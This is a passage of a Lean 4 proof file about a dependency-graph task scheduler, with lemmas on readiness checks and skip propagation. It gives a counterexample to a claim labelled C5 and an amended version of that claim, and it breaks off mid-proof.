theorem checkReady_visit_c (s0 : DAGState) (c : String) (deps : List String)
    (σ : NodeStatus) (hσt : σ.IsTerminal = false) (s : DAGState)
    (h1 : ∀ v, nodeDeps s v = nodeDeps s0 v)
    (h3 : ∀ v, (nodeStatus s v == some .done) = (nodeStatus s0 v == some .done))
    (hd0 : nodeDeps s0 c = some deps)
    (hP : nodeStatus s c = some σ ∨
      (allDepsDone s0 deps = true ∧ nodeStatus s c = some .ready)) :
    nodeStatus (checkReady s c) c
      = (if allDepsDone s0 deps = true then some .ready else some σ) := by
  rcases hP with hσ | ⟨hD, hrdy⟩
  · rcases Option.map_eq_some'.mp hσ with ⟨node, hfind, hstat⟩
    have hdeps : node.DependsOn = deps :=
      nodeDeps_extract s c node deps hfind (by rw [h1 c, hd0])
    have hterm : node.Status.IsTerminal = false := by rw [hstat]; exact hσt
    rw [checkReady_status_self s c node hfind hterm, hdeps,
      allDepsDone_congr s s0 deps h3, hstat]
  · rcases Option.map_eq_some'.mp hrdy with ⟨node, hfind, hstat⟩
    have hdeps : node.DependsOn = deps :=
      nodeDeps_extract s c node deps hfind (by rw [h1 c, hd0])
    have hterm : node.Status.IsTerminal = false := by rw [hstat]; rfl
    rw [checkReady_status_self s c node hfind hterm, hdeps,
      allDepsDone_congr s s0 deps h3, hD]
    simp

/-- Once pinned, `c`'s status survives any further `checkReady` step. -/
theorem checkReady_step_Q (s0 : DAGState) (c : String) (deps : List String)
    (σ : NodeStatus) (hσt : σ.IsTerminal = false) (s : DAGState) (b : String)
    (h1 : ∀ v, nodeDeps s v = nodeDeps s0 v)
    (h3 : ∀ v, (nodeStatus s v == some .done) = (nodeStatus s0 v == some .done))
    (hd0 : nodeDeps s0 c = some deps)
    (hQ : nodeStatus s c
      = (if allDepsDone s0 deps = true then some .ready else some σ)) :
    nodeStatus (checkReady s b) c
      = (if allDepsDone s0 deps = true then some .ready else some σ) := by
  have hP : nodeStatus s c = some σ ∨
      (allDepsDone s0 deps = true ∧ nodeStatus s c = some .ready) := by
    cases hD : allDepsDone s0 deps
    · exact Or.inl (by simpa [hD] using hQ)
    · exact Or.inr ⟨rfl, by simpa [hD] using hQ⟩
  by_cases hbc : c = b
  · subst hbc
    exact checkReady_visit_c s0 c deps σ hσt s h1 h3 hd0 hP
  · rw [checkReady_status_other s b c hbc]
    exact hQ

/-- The pinned status survives a whole `checkReady` fold. -/
theorem foldCheckReady_Q (s0 : DAGState) (c : String) (deps : List String)
    (σ : NodeStatus) (hσt : σ.IsTerminal = false)
    (hd0 : nodeDeps s0 c = some deps) :
    ∀ (bs : List String) (s : DAGState),
    (∀ v, nodeDeps s v = nodeDeps s0 v) →
    (∀ v, (findNode s v).isSome = (findNode s0 v).isSome) →
    (∀ v, (nodeStatus s v == some .done) = (nodeStatus s0 v == some .done)) →
    nodeStatus s c = (if allDepsDone s0 deps = true then some .ready else some σ) →
    nodeStatus (bs.foldl (fun acc b => checkReady acc b) s) c
      = (if allDepsDone s0 deps = true then some .ready else some σ) := by
  intro bs
  induction bs with
  | nil => intro s _ _ _ hQ; exact hQ
  | cons b rest ih =>
    intro s h1 h2 h3 hQ
    simp only [List.foldl_cons]
    obtain ⟨g1, g2, g3⟩ := checkReady_INV s0 s b h1 h2 h3
    exact ih (checkReady s b) g1 g2 g3
      (checkReady_step_Q s0 c deps σ hσt s b h1 h3 hd0 hQ)

/-- Full description of the `checkReady` fold's effect on a child `c` that
occurs in the processed list: its final status is `ready` exactly when all
its dependencies are done. -/
theorem foldCheckReady_mem (s0 : DAGState) (c : String) (deps : List String)
    (σ : NodeStatus) (hσt : σ.IsTerminal = false)
    (hd0 : nodeDeps s0 c = some deps) :
    ∀ (bs : List String) (s : DAGState),
    (∀ v, nodeDeps s v = nodeDeps s0 v) →
    (∀ v, (findNode s v).isSome = (findNode s0 v).isSome) →
    (∀ v, (nodeStatus s v == some .done) = (nodeStatus s0 v == some .done)) →
    (nodeStatus s c = some σ ∨
      (allDepsDone s0 deps = true ∧ nodeStatus s c = some .ready)) →
    c ∈ bs →
    nodeStatus (bs.foldl (fun acc b => checkReady acc b) s) c
      = (if allDepsDone s0 deps = true then some .ready else some σ) := by
  intro bs
  induction bs with
  | nil => intro s _ _ _ _ hmem; cases hmem
  | cons b rest ih =>
    intro s h1 h2 h3 hP hmem
    simp only [List.foldl_cons]
    obtain ⟨g1, g2, g3⟩ := checkReady_INV s0 s b h1 h2 h3
    by_cases hbc : c = b
    · subst hbc
      exact foldCheckReady_Q s0 c deps σ hσt hd0 rest (checkReady s c) g1 g2 g3
        (checkReady_visit_c s0 c deps σ hσt s h1 h3 hd0 hP)
    · have hrest : c ∈ rest := by
        rcases List.mem_cons.mp hmem with h | h
        · exact absurd h hbc
        · exact h
      exact ih (checkReady s b) g1 g2 g3
        (checkReady_step_c s0 c deps σ hσt s b h1 h3 hd0 hP) hrest

/-- The `checkReady` fold also preserves done-ness globally (used to move
the readiness condition between the intermediate and the final state). -/
theorem foldCheckReady_isDone (s0 : DAGState) :
    ∀ (bs : List String) (s : DAGState),
    (∀ v, nodeDeps s v = nodeDeps s0 v) →
    (∀ v, (findNode s v).isSome = (findNode s0 v).isSome) →
    (∀ v, (nodeStatus s v == some .done) = (nodeStatus s0 v == some .done)) →
    (∀ v, ((nodeStatus (bs.foldl (fun acc b => checkReady acc b) s) v == some .done))
        = (nodeStatus s0 v == some .done)) := by
  intro bs
  induction bs with
  | nil => intro s _ _ h3; exact h3
  | cons b rest ih =>
    intro s h1 h2 h3
    simp only [List.foldl_cons]
    obtain ⟨g1, g2, g3⟩ := checkReady_INV s0 s b h1 h2 h3
    exact ih (checkReady s b) g1 g2 g3

/-! ## Claim C5 -/

/-- C5 counterexample state: chain a → b built through the construction
API; `b` is then marked `done` directly (the spec explicitly permits
marking a node done whose dependencies are not all done). -/
def c5pre : DAGState :=
  UpdateNodeStatus
    ((((do
        let s ← AddNode {} { ID := "a" }
        let s ← AddNode s { ID := "b" }
        AddEdge s "a" "b") : Except String DAGState).toOption).getD {})
    "b" .done

/-- C5 counterexample: after `UpdateNodeStatus a done`, the child `b` of
`a` has every dependency done, yet its status is `done`, not `ready`
(`checkReady` skips terminal children) — refuting the claimed equivalence
"c.status = ready iff every dependency of c is done" at this input. -/
theorem claim_C5_counterexample :
    nodeBlocks c5pre "a" = some ["b"] ∧
    nodeDeps c5pre "b" = some ["a"] ∧
    nodeStatus (UpdateNodeStatus c5pre "a" .done) "b" = some .done ∧
    allDepsDone (UpdateNodeStatus c5pre "a" .done) ["a"] = true ∧
    ¬(nodeStatus (UpdateNodeStatus c5pre "a" .done) "b" = some .ready ↔
      allDepsDone (UpdateNodeStatus c5pre "a" .done) ["a"] = true) := by
  refine ⟨by decide, by decide, by decide, by decide, by decide⟩

/-- `.Nodes` view of `UpdateNodeStatus(n, done)`: the status write followed
by the `checkReady` fold over the children (the final overall-status
recompute does not touch `.Nodes`). -/
theorem UpdateNodeStatus_done_Nodes (s : DAGState) (n : String) (node : Node)
    (hn : findNode s n = some node) :
    (UpdateNodeStatus s n .done).Nodes
      = (node.Blocks.foldl (fun acc b => checkReady acc b)
          (updNode s n (fun x => { x with Status := .done }))).Nodes := by
  unfold UpdateNodeStatus
  rw [hn]
  simp only [show ((NodeStatus.done == NodeStatus.done)) = true from rfl,
    show ((NodeStatus.done == NodeStatus.failed)) = false from rfl,
    if_true, Bool.false_eq_true, if_false]
  split
  · split <;> rfl
  · rfl

/-- C5 amended: after `UpdateNodeStatus(n, done)`, for every child `c ≠ n`
of `n` whose status before the call was neither terminal nor already
`ready`: `c.status = ready` iff every dependency of `c` exists and has
status `done` (in the post-state).  The two exclusions are forced by the
counterexample: a terminal child is never promoted even when all its
dependencies are done, and a child that was already `ready` stays `ready`
even when not all its dependencies are done. -/
theorem claim_C5_amended (s : DAGState) (n c : String) (node cpre : Node)
    (hn : findNode s n = some node) (hc : c ∈ node.Blocks) (hcn : c ≠ n)
    (hcpre : findNode s c = some cpre)
    (hterm : cpre.Status.IsTerminal = false) (hready : cpre.Status ≠ .ready) :
    nodeStatus (UpdateNodeStatus s n .done) c = some .ready ↔
      allDepsDone (UpdateNodeStatus s n .done) cpre.DependsOn = true := by
  have hNodes : ∀ v, findNode (UpdateNodeStatus s n .done) v
      = findNode (node.Blocks.foldl (fun acc b => checkReady acc b)
          (updNode s n (fun x => { x with Status := .done }))) v := by
    intro v
    unfold findNode
    rw [UpdateNodeStatus_done_Nodes s n node hn]
  have hfs1c : findNode (updNode s n (fun x => { x with Status := .done })) c
      = some cpre := by
    rw [findNode_updNode, if_neg hcn, hcpre]
  have hd0 : nodeDeps (updNode s n (fun x => { x with Status := .done })) c
      = some cpre.DependsOn := by
    unfold nodeDeps
    rw [hfs1c]
    rfl
  have hP0 : nodeStatus (updNode s n (fun x => { x with Status := .done })) c
      = some cpre.Status := by
    unfold nodeStatus
    rw [hfs1c]
    rfl
  have hmain := foldCheckReady_mem
    (updNode s n (fun x => { x with Status := .done })) c cpre.DependsOn
    cpre.Status hterm hd0 node.Blocks
    (updNode s n (fun x => { x with Status := .done }))
    (fun _ => rfl) (fun _ => rfl) (fun _ => rfl) (Or.inl hP0) hc
  have hdone := foldCheckReady_isDone
    (updNode s n (fun x => { x with Status := .done })) node.Blocks
    (updNode s n (fun x => { x with Status := .done }))
    (fun _ => rfl) (fun _ => rfl) (fun _ => rfl)
  have hstatEq : ∀ v, nodeStatus (UpdateNodeStatus s n .done) v
      = nodeStatus (node.Blocks.foldl (fun acc b => checkReady acc b)
          (updNode s n (fun x => { x with Status := .done }))) v := by
    intro v
    unfold nodeStatus
    rw [hNodes v]
  have hAeq : allDepsDone (UpdateNodeStatus s n .done) cpre.DependsOn
      = allDepsDone (updNode s n (fun x => { x with Status := .done }))
          cpre.DependsOn := by
    calc allDepsDone (UpdateNodeStatus s n .done) cpre.DependsOn
        = allDepsDone (node.Blocks.foldl (fun acc b => checkReady acc b)
            (updNode s n (fun x => { x with Status := .done })))
            cpre.DependsOn := by
          apply allDepsDone_congr
          intro v
          rw [hstatEq v]
      _ = _ := by
          apply allDepsDone_congr
          intro v
          exact hdone v
  rw [hAeq, hstatEq c, hmain]
  cases hD : allDepsDone (updNode s n (fun x => { x with Status := .done }))
      cpre.DependsOn
  · simp only [hD, Bool.false_eq_true, if_false]
    constructor
    · intro hcontra
      have : cpre.Status = NodeStatus.ready := by
        simpa using hcontra
      exact absurd this hready
    · intro hcontra
      cases hcontra
  · simp [hD]

/-- Concrete state for the C5 amended witness: chain a → b with `b`
pending. -/
def c5wit : DAGState :=
  { Nodes := [("a", { ID := "a", Blocks := ["b"] }),
              ("b", { ID := "b", DependsOn := ["a"] })] }

/-- Witness for C5 amended at a concrete input. -/
theorem claim_C5_amended_witness :
    nodeStatus (UpdateNodeStatus c5wit "a" .done) "b" = some .ready ↔
      allDepsDone (UpdateNodeStatus c5wit "a" .done) ["a"] = true :=
  claim_C5_amended c5wit "a" "b" { ID := "a", Blocks := ["b"] }
    { ID := "b", DependsOn := ["a"] } (by decide) (by decide) (by decide)
    (by decide) (by decide) (by decide)

/-! ## Reachability through the Blocks relation -/

/-- One `Blocks` edge: `y` occurs in the blocks list of the node stored
under `x`. -/
def edgeB (s : DAGState) (x y : String) : Prop :=
  ∃ nx, findNode s x = some nx ∧ y ∈ nx.Blocks

/-- The node stored under `v` exists and is non-terminal. -/
def NTat (s : DAGState) (v : String) : Prop :=
  ∃ nv, findNode s v = some nv ∧ nv.Status.IsTerminal = false

/-- A `Blocks` edge into a non-terminal node. -/
def ntEdge (s : DAGState) (x y : String) : Prop :=
  edgeB s x y ∧ NTat s y

/-- A `Blocks` edge into a non-terminal node different from `x0`. -/
def ntEdgeAvoid (s : DAGState) (x0 x y : String) : Prop :=
  edgeB s x y ∧ NTat s y ∧ y ≠ x0

/-- `d` is reachable from the non-terminal node `x` through a chain of
non-terminal nodes (`d = x` allowed). -/
def NTDesc (s : DAGState) (x d : String) : Prop :=
  NTat s x ∧ Relation.ReflTransGen (ntEdge s) x d

/-- `d` is a transitive descendant of `n` through `Blocks` reached by a
chain whose every node after `n` is present and non-terminal. -/
def SkipReach (s : DAGState) (n d : String) : Prop :=
  ∃ y, edgeB s n y ∧ NTat s y ∧ Relation.ReflTransGen (ntEdge s) y d

/-- Number of non-terminal entries (the `propagateSkip` fuel measure). -/
def ntCount (s : DAGState) : Nat :=
  (s.Nodes.filter (fun p => !(p.2.Status.IsTerminal))).length

/-! ## Frame and monotonicity lemmas for propagateSkip -/

/-- Structural frame between two states: same keys, same adjacency, same
presence. -/
def FrameS (s t : DAGState) : Prop :=
  t.Nodes.map Prod.fst = s.Nodes.map Prod.fst ∧
  ∀ v, nodeDeps t v = nodeDeps s v ∧ nodeBlocks t v = nodeBlocks s v ∧
    (findNode t v).isSome = (findNode s v).isSome

theorem FrameS_refl (s : DAGState) : FrameS s s :=
  ⟨rfl, fun _ => ⟨rfl, rfl, rfl⟩⟩

theorem FrameS_trans {a b c : DAGState} (h1 : FrameS a b) (h2 : FrameS b c) :
    FrameS a c := by
  refine ⟨h2.1.trans h1.1, fun v => ?_⟩
  obtain ⟨d1, b1, s1⟩ := h1.2 v
  obtain ⟨d2, b2, s2⟩ := h2.2 v
  exact ⟨d2.trans d1, b2.trans b1, s2.trans s1⟩

/-- Status monotonicity: every status either stays or flips from a
non-terminal value to `skipped`. -/
def MonoS (s t : DAGState) : Prop :=
  ∀ v, nodeStatus t v = nodeStatus s v ∨
    (∃ σ, nodeStatus s v = some σ ∧ σ.IsTerminal = false ∧
      nodeStatus t v = some .skipped)

theorem MonoS_refl (s : DAGState) : MonoS s s := fun _ => Or.inl rfl

theorem MonoS_trans {a b c : DAGState} (h1 : MonoS a b) (h2 : MonoS b c) :
    MonoS a c := by
  intro v
  rcases h2 v with h2v | ⟨σ2, hb, hσ2, hc⟩
  · rcases h1 v with h1v | ⟨σ1, ha, hσ1, hb1⟩
    · exact Or.inl (h2v.trans h1v)
    · exact Or.inr ⟨σ1, ha, hσ1, h2v.trans hb1⟩
  · rcases h1 v with h1v | ⟨σ1, ha, hσ1, hb1⟩
    · exact Or.inr ⟨σ2, h1v ▸ hb, hσ2, hc⟩
    · rw [hb1] at hb
      injection hb with hb
      rw [← hb] at hσ2
      cases hσ2

/-- A fold preserves any reflexive-transitive step property. -/
theorem foldl_pres {P : DAGState → DAGState → Prop}
    (Prefl : ∀ u, P u u)
    (Ptrans : ∀ a b c, P a b → P b c → P a c)
    (f : DAGState → String → DAGState)
    (hstep : ∀ u b, P u (f u b)) :
    ∀ (bs : List String) (u : DAGState), P u (bs.foldl f u) := by
  intro bs
  induction bs with
  | nil => intro u; exact Prefl u
  | cons b rest ih =>
    intro u
    exact Ptrans _ _ _ (hstep u b) (ih (f u b))

/-- `updNode` with a status-only update is a frame step. -/
theorem FrameS_updNode_status (s : DAGState) (x : String) (σ : NodeStatus) :
    FrameS s (updNode s x (fun m => { m with Status := σ })) := by
  refine ⟨updNode_keys s x _, fun v => ?_⟩
  unfold nodeDeps nodeBlocks
  rw [findNode_updNode]
  by_cases hv : v = x
  · subst hv
    cases findNode s v <;> simp
  · simp [hv]

theorem FrameS_propagateSkip :
    ∀ (fuel : Nat) (s : DAGState) (x : String),
      FrameS s (propagateSkip fuel s x) := by
  intro fuel
  induction fuel with
  | zero => intro s x; exact FrameS_refl s
  | succ fuel ih =>
    intro s x
    unfold propagateSkip
    cases hf : findNode s x with
    | none => exact FrameS_refl s
    | some node =>
      dsimp only
      split
      · exact FrameS_refl s
      · exact FrameS_trans (FrameS_updNode_status s x .skipped)
          (foldl_pres FrameS_refl (fun _ _ _ => FrameS_trans) _
            (fun u b => ih u b) node.Blocks _)

theorem MonoS_propagateSkip :
    ∀ (fuel : Nat) (s : DAGState) (x : String),
      MonoS s (propagateSkip fuel s x) := by
  intro fuel
  induction fuel with
  | zero => intro s x; exact MonoS_refl s
  | succ fuel ih =>
    intro s x
    unfold propagateSkip
    cases hf : findNode s x with
    | none => exact MonoS_refl s
    | some node =>
      dsimp only
      split
      · exact MonoS_refl s
      · rename_i hterm
        refine MonoS_trans (b := updNode s x (fun m => { m with Status := .skipped }))
          ?_ (foldl_pres MonoS_refl (fun _ _ _ => MonoS_trans) _
            (fun u b => ih u b) node.Blocks _)
        intro v
        unfold nodeStatus
        rw [findNode_updNode]
        by_cases hv : v = x
        · subst hv
          rw [if_pos rfl, hf]
          refine Or.inr ⟨node.Status, rfl, ?_, rfl⟩
          simpa using hterm
        · simp [hv]

/-- Abstract list-level core of the strict non-terminal-count decrease:
mapping a function that fixes all entries except the (unique) one keyed
`x`, which it makes terminal, strictly decreases the count of non-terminal
entries when the stored `x` entry was non-terminal. -/
theorem ntFilter_map_lt (x : String) (g : String × Node → String × Node)
    (hg1 : ∀ q : String × Node, q.1 ≠ x → g q = q)
    (hg2 : ∀ q : String × Node, q.1 = x → ((g q).2.Status.IsTerminal) = true) :
    ∀ (l : List (String × Node)) (p : String × Node),
    (l.map Prod.fst).Nodup →
    l.find? (fun q => q.1 == x) = some p →
    (!(p.2.Status.IsTerminal)) = true →
    ((l.map g).filter (fun q => !(q.2.Status.IsTerminal))).length
      < (l.filter (fun q => !(q.2.Status.IsTerminal))).length := by
  intro l
  induction l with
  | nil => intro p _ hf _; cases hf
  | cons q t ih =>
    intro p hNodup hf hNT
    simp only [List.map_cons, List.nodup_cons] at hNodup
    by_cases hqx : q.1 = x
    · have hfind : (q :: t).find? (fun r => r.1 == x) = some q :=
        List.find?_cons_of_pos _ (by simp [hqx])
      rw [hfind] at hf
      injection hf with hf
      subst hf
      have htail : t.map g = t := by
        rw [show t.map g = t.map id from
          List.map_congr_left (fun r hr => hg1 r (fun hrx => by
            apply hNodup.1
            rw [hqx, ← hrx]
            exact List.mem_map_of_mem Prod.fst hr)),
          List.map_id]
      simp only [List.map_cons, htail, List.filter_cons]
      simp only [hNT, hg2 q hqx, Bool.not_true]
      simp
    · have hfind : (q :: t).find? (fun r => r.1 == x)
          = t.find? (fun r => r.1 == x) :=
        List.find?_cons_of_neg _ (by simp [hqx])
      rw [hfind] at hf
      have hlt := ih p hNodup.2 hf hNT
      simp only [List.map_cons, hg1 q hqx, List.filter_cons]
      cases hne : (!(q.2.Status.IsTerminal)) <;> simp [hlt]

/-- Marking a stored non-terminal node `skipped` strictly decreases the
non-terminal count (keys are unique, as in a Go map). -/
theorem ntCount_updSkip_lt (s : DAGState) (x : String) (node : Node)
    (hNodup : (s.Nodes.map Prod.fst).Nodup)
    (hf : findNode s x = some node)
    (hNT : node.Status.IsTerminal = false) :
    ntCount (updNode s x (fun m => { m with Status := .skipped })) < ntCount s := by
  unfold findNode at hf
  rcases Option.map_eq_some'.mp hf with ⟨p, hfind, hp2⟩
  unfold ntCount updNode
  apply ntFilter_map_lt x _ ?_ ?_ s.Nodes p hNodup hfind (by rw [hp2, hNT]; rfl)
  · intro q hq
    simp [hq]
  · intro q hq
    simp [hq]
    rfl

theorem nodupKeys_propagateSkip (fuel : Nat) (s : DAGState) (x : String)
    (h : (s.Nodes.map Prod.fst).Nodup) :
    ((propagateSkip fuel s x).Nodes.map Prod.fst).Nodup := by
  rw [(FrameS_propagateSkip fuel s x).1]
  exact h

theorem ntCount_propagateSkip_le :
    ∀ (fuel : Nat) (s : DAGState) (x : String),
      (s.Nodes.map Prod.fst).Nodup →
      ntCount (propagateSkip fuel s x) ≤ ntCount s := by
  intro fuel
  induction fuel with
  | zero => intro s x _; exact Nat.le_refl _
  | succ fuel ih =>
    intro s x hNodup
    have hfold : ∀ (bs : List String) (u : DAGState),
        (u.Nodes.map Prod.fst).Nodup →
        ntCount (bs.foldl (fun acc b => propagateSkip fuel acc b) u) ≤ ntCount u := by
      intro bs
      induction bs with
      | nil => intro u _; exact Nat.le_refl _
      | cons b rest ihb =>
        intro u hu
        simp only [List.foldl_cons]
        exact Nat.le_trans
          (ihb (propagateSkip fuel u b) (nodupKeys_propagateSkip fuel u b hu))
          (ih u b hu)
    unfold propagateSkip
    cases hf : findNode s x with
    | none => exact Nat.le_refl _
    | some node =>
      dsimp only
      split
      · exact Nat.le_refl _
      · rename_i hterm
        have h1 : ntCount (updNode s x (fun m => { m with Status := .skipped }))
            < ntCount s := by
          apply ntCount_updSkip_lt s x node hNodup hf
          simpa using hterm
        exact Nat.le_trans
          (hfold node.Blocks _ (by rw [updNode_keys]; exact hNodup))
          (Nat.le_of_lt h1)

/-! ## Transfer lemmas between monotonically related states -/

theorem nodeStatus_updSkip (s : DAGState) (x : String) (node : Node)
    (hf : findNode s x = some node) (v : String) :
    nodeStatus (updNode s x (fun m => { m with Status := .skipped })) v
      = if v = x then some .skipped else nodeStatus s v := by
  unfold nodeStatus
  rw [findNode_updNode]
  by_cases hv : v = x
  · subst hv
    rw [if_pos rfl, if_pos rfl, hf]
    rfl
  · rw [if_neg hv, if_neg hv]

theorem edgeB_iff_blocks (s : DAGState) (a b : String) :
    edgeB s a b ↔ ∃ bl, nodeBlocks s a = some bl ∧ b ∈ bl := by
  unfold edgeB nodeBlocks
  constructor
  · rintro ⟨na, hna, hb⟩
    exact ⟨na.Blocks, by rw [hna]; rfl, hb⟩
  · rintro ⟨bl, hbl, hb⟩
    cases hna : findNode s a with
    | none => rw [hna] at hbl; cases hbl
    | some na =>
      rw [hna] at hbl
      refine ⟨na, rfl, ?_⟩
      have : na.Blocks = bl := by simpa using hbl
      rw [this]
      exact hb

theorem edgeB_frame {s t : DAGState} (h : FrameS s t) (a b : String) :
    edgeB t a b ↔ edgeB s a b := by
  rw [edgeB_iff_blocks, edgeB_iff_blocks, (h.2 a).2.1]

theorem NTat_not_skipped {t : DAGState} {u : String} (h : NTat t u) :
    nodeStatus t u ≠ some .skipped := by
  rcases h with ⟨nu, hnu, hterm⟩
  unfold nodeStatus
  rw [hnu]
  intro hc
  have : nu.Status = .skipped := by simpa using hc
  rw [this] at hterm
  cases hterm

theorem NTat_down {t t1 : DAGState} (hmono : MonoS t t1) {v : String}
    (h : NTat t1 v) : NTat t v := by
  rcases h with ⟨nv, hnv, hterm⟩
  rcases hmono v with heq | ⟨σ, hs, hσ, hsk⟩
  · unfold nodeStatus at heq
    rw [hnv] at heq
    rcases Option.map_eq_some'.mp heq.symm with ⟨mv, hmv, hms⟩
    exact ⟨mv, hmv, by rw [hms]; exact hterm⟩
  · unfold nodeStatus at hsk
    rw [hnv] at hsk
    have : nv.Status = .skipped := by simpa using hsk
    rw [this] at hterm
    cases hterm

theorem NTat_up {t t1 : DAGState} (hmono : MonoS t t1) {v : String}
    (h : NTat t v) (hns : nodeStatus t1 v ≠ some .skipped) : NTat t1 v := by
  rcases h with ⟨nv, hnv, hterm⟩
  rcases hmono v with heq | ⟨σ, hs, hσ, hsk⟩
  · unfold nodeStatus at heq
    rw [hnv] at heq
    rcases Option.map_eq_some'.mp heq with ⟨mv, hmv, hms⟩
    exact ⟨mv, hmv, by rw [hms]; exact hterm⟩
  · exact absurd hsk hns

theorem skipped_up {t t1 : DAGState} (hmono : MonoS t t1) {v : String}
    (h : nodeStatus t v = some .skipped) :
    nodeStatus t1 v = some .skipped := by
  rcases hmono v with heq | ⟨σ, hs, hσ, hsk⟩
  · rw [heq, h]
  · exact hsk

/-- Chain surgery: a non-terminal chain ending away from `x` either avoids
`x` entirely, or can be re-rooted at a `Blocks` successor of `x`, still
avoiding `x`. -/
theorem rtg_ntEdge_avoid (s : DAGState) (x : String) :
    ∀ y d, Relation.ReflTransGen (ntEdge s) y d → d ≠ x →
      Relation.ReflTransGen (ntEdgeAvoid s x) y d ∨
      ∃ b, edgeB s x b ∧ NTat s b ∧ b ≠ x ∧
        Relation.ReflTransGen (ntEdgeAvoid s x) b d := by
  intro y d hchain
  induction hchain using Relation.ReflTransGen.head_induction_on with
  | refl => intro _; exact Or.inl Relation.ReflTransGen.refl
  | @head u z hstep hrest ih =>
    intro hd
    rcases ih hd with hc | ⟨b, hxb, hNTb, hbx, hbc⟩
    · by_cases hz : z = x
      · subst hz
        rcases Relation.ReflTransGen.cases_head hc with heq | ⟨w, hw, hwc⟩
        · exact absurd heq.symm hd
        · exact Or.inr ⟨w, hw.1, hw.2.1, hw.2.2, hwc⟩
      · exact Or.inl (Relation.ReflTransGen.head ⟨hstep.1, hstep.2, hz⟩ hc)
    · exact Or.inr ⟨b, hxb, hNTb, hbx, hbc⟩

theorem ntdesc_down {t t1 : DAGState} (hmono : MonoS t t1) (hframe : FrameS t t1)
    {u d : String} (h : NTDesc t1 u d) : NTDesc t u d := by
  rcases h with ⟨hNT, hch⟩
  refine ⟨NTat_down hmono hNT, ?_⟩
  exact Relation.ReflTransGen.mono
    (fun a b hab => ⟨(edgeB_frame hframe a b).mp hab.1, NTat_down hmono hab.2⟩) hch

/-- Core transfer: a non-terminal descent in `t` either already ends in a
node that one `propagateSkip` call (characterized by `hcall`) has skipped,
or survives into the post-call state `t1`. -/
theorem ntdesc_transfer (t t1 : DAGState) (b : String)
    (hmono : MonoS t t1) (hframe : FrameS t t1)
    (hcall : ∀ d, nodeStatus t1 d = some .skipped ↔
      (nodeStatus t d = some .skipped ∨ NTDesc t b d)) :
    ∀ u d, NTDesc t u d →
      nodeStatus t1 d = some .skipped ∨ NTDesc t1 u d := by
  rintro u d ⟨hNTu, hchain⟩
  have main : ∀ u0, Relation.ReflTransGen (ntEdge t) u0 d →
      nodeStatus t1 u0 ≠ some .skipped →
      nodeStatus t1 d = some .skipped ∨ Relation.ReflTransGen (ntEdge t1) u0 d := by
    intro u0 hch
    induction hch using Relation.ReflTransGen.head_induction_on with
    | refl => intro _; exact Or.inr Relation.ReflTransGen.refl
    | @head u' z hstep hrest ih =>
      intro hnsk
      by_cases hz : nodeStatus t1 z = some .skipped
      · have hzt : nodeStatus t z ≠ some .skipped := NTat_not_skipped hstep.2
        rcases (hcall z).mp hz with hc | hc
        · exact absurd hc hzt
        · left
          apply (hcall d).mpr
          right
          exact ⟨hc.1, hc.2.trans hrest⟩
      · rcases ih hz with hl | hr
        · exact Or.inl hl
        · right
          refine Relation.ReflTransGen.head ⟨?_, ?_⟩ hr
          · exact (edgeB_frame hframe u' z).mpr hstep.1
          · exact NTat_up hmono hstep.2 hz
  by_cases hu : nodeStatus t1 u = some .skipped
  · have hut : nodeStatus t u ≠ some .skipped := NTat_not_skipped hNTu
    rcases (hcall u).mp hu with hc | hc
    · exact absurd hc hut
    · left
      apply (hcall d).mpr
      right
      exact ⟨hc.1, hc.2.trans hchain⟩
  · rcases main u hchain hu with hl | hr
    · exact Or.inl hl
    · exact Or.inr ⟨NTat_up hmono hNTu hu, hr⟩

/-- Characterization of `propagateSkip` (and of a fold of `propagateSkip`
calls): a node ends `skipped` exactly when it was already skipped or it is
a non-terminal descent of the start node (of one of the fold's start
nodes). -/
theorem ps_psfold_skipped_iff :
    ∀ fuel : Nat,
      (∀ (s : DAGState) (x : String), (s.Nodes.map Prod.fst).Nodup →
        ntCount s < fuel → ∀ d,
        (nodeStatus (propagateSkip fuel s x) d = some .skipped ↔
          (nodeStatus s d = some .skipped ∨ NTDesc s x d))) ∧
      (∀ (bs : List String) (t : DAGState), (t.Nodes.map Prod.fst).Nodup →
        ntCount t < fuel → ∀ d,
        (nodeStatus (bs.foldl (fun acc b => propagateSkip fuel acc b) t) d
            = some .skipped ↔
          (nodeStatus t d = some .skipped ∨ ∃ b ∈ bs, NTDesc t b d))) := by
  intro fuel
  induction fuel with
  | zero =>
    constructor
    · intro s x _ hc
      exact absurd hc (Nat.not_lt_zero _)
    · intro bs t _ hc
      exact absurd hc (Nat.not_lt_zero _)
  | succ fuel ih =>
    have hP : ∀ (s : DAGState) (x : String), (s.Nodes.map Prod.fst).Nodup →
        ntCount s < fuel + 1 → ∀ d,
        (nodeStatus (propagateSkip (fuel + 1) s x) d = some .skipped ↔
          (nodeStatus s d = some .skipped ∨ NTDesc s x d)) := by
      intro s x hN hc d
      unfold propagateSkip
      cases hf : findNode s x with
      | none =>
        dsimp only
        constructor
        · intro h
          exact Or.inl h
        · rintro (h | ⟨⟨nx, hnx, _⟩, _⟩)
          · exact h
          · rw [hf] at hnx
            cases hnx
      | some node =>
        dsimp only
        split
        · rename_i hterm
          constructor
          · intro h
            exact Or.inl h
          · rintro (h | ⟨⟨nx, hnx, hnt⟩, _⟩)
            · exact h
            · rw [hf] at hnx
              injection hnx with hnx
              rw [hnx] at hterm
              rw [hterm] at hnt
              cases hnt
        · rename_i hterm
          have hterm' : node.Status.IsTerminal = false := by
            simpa using hterm
          have hNTx : NTat s x := ⟨node, hf, hterm'⟩
          have hstat1 := nodeStatus_updSkip s x node hf
          have hframe1 : FrameS s (updNode s x (fun m => { m with Status := .skipped })) :=
            FrameS_updNode_status s x .skipped
          have hmono1 : MonoS s (updNode s x (fun m => { m with Status := .skipped })) := by
            intro v
            rw [hstat1 v]
            by_cases hv : v = x
            · subst hv
              right
              refine ⟨node.Status, ?_, hterm', by rw [if_pos rfl]⟩
              unfold nodeStatus
              rw [hf]
              rfl
            · rw [if_neg hv]
              exact Or.inl rfl
          have hup : ∀ v, v ≠ x → NTat s v →
              NTat (updNode s x (fun m => { m with Status := .skipped })) v := by
            rintro v hv ⟨nv, hnv, ht⟩
            refine ⟨nv, ?_, ht⟩
            rw [findNode_updNode, if_neg hv]
            exact hnv
          have hN1 : ((updNode s x (fun m => { m with Status := .skipped })).Nodes.map
              Prod.fst).Nodup := by
            rw [updNode_keys]
            exact hN
          have hc1 : ntCount (updNode s x (fun m => { m with Status := .skipped }))
              < fuel :=
            Nat.lt_of_lt_of_le (ntCount_updSkip_lt s x node hN hf hterm')
              (Nat.lt_succ_iff.mp hc)
          have F := (ih.2) node.Blocks
